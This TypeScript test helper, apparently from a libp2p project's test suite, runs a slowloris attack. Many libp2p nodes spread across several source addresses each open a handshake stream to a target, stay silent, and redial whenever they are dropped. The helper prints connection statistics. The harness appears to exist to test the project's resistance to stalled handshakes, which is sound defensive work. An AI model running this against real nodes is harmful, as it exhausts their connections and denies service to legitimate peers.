/**
 * A slowloris attacker, run as its own process by the slowloris test: from
 * each source address given, `perIp` plain libp2p nodes each open a
 * connection to the target, open the handshake stream and send nothing; when
 * the target hangs up they open a new one, until SIGTERM. Every second (and
 * on exit) it prints `{"opened":N,"live":N,"failedDials":N}`.
 *
 * usage: node stall-attack.js <target multiaddr> <perIp> <source ip>...
 */
import { noise } from '@chainsafe/libp2p-noise'
import { yamux } from '@chainsafe/libp2p-yamux'
import { tcp, type TCPSocketOptions } from '@libp2p/tcp'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p, type Libp2p } from 'libp2p'
import { HANDSHAKE_PROTOCOL } from '../../src/index.js'

const [target, perIpArg, ...ips] = process.argv.slice(2)
const perIp = Number(perIpArg)
const address = multiaddr(target)
let stopping = false
const stats = { opened: 0, live: 0, failedDials: 0 }
const report = (): void => { process.stdout.write(`${JSON.stringify(stats)}\n`) }

async function slot (node: Libp2p): Promise<void> {
  while (!stopping) {
    try {
      const connection = await node.dial(address, { signal: AbortSignal.timeout(5_000) })
      const closed = new Promise<void>(resolve => { connection.addEventListener('close', () => { resolve() }) })
      await connection.newStream(HANDSHAKE_PROTOCOL, { signal: AbortSignal.timeout(5_000) })
      stats.opened++
      stats.live++
      // a stalled handshake: say nothing until the target hangs up
      await closed
      stats.live--
    } catch {
      stats.failedDials++
      await new Promise(resolve => setTimeout(resolve, 100))
    }
  }
}

const nodes: Libp2p[] = []
for (const ip of ips) {
  for (let i = 0; i < perIp; i++) {
    nodes.push(await createLibp2p({
      // net.connect takes localAddress; the type lists only a subset of its options
      transports: [tcp({ dialOpts: { localAddress: ip } as TCPSocketOptions })],
      connectionEncrypters: [noise()],
      streamMuxers: [yamux()],
      // the nodes do not listen; they only dial the target
      addresses: { listen: [] }
    }))
  }
}
const timer = setInterval(report, 1_000)
const slots = nodes.map(async node => slot(node))
process.on('SIGTERM', () => {
  stopping = true
  clearInterval(timer)
  void Promise.allSettled(nodes.map(async node => node.stop())).then(() => {
    report()
    process.exit(0)
  })
})
await Promise.allSettled(slots)
